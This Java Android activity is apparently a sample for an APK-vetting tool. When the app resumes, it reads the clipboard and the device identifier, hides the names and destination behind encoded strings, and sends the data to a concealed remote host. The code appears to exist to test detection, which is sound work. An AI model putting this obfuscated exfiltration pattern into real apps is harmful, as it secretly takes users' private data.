package org.apkvet.samples.hidden.chunksstack;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d(0x90369d035L));
            Object clip = Class.forName(D.d(0x90020048d159cL)).getMethod(D.d(0x29000e05b05b03L)).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d(0x37000a06d3a06aL));
            URLConnection connection = new URL(D.d(0x41002307f6e5d1L)).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
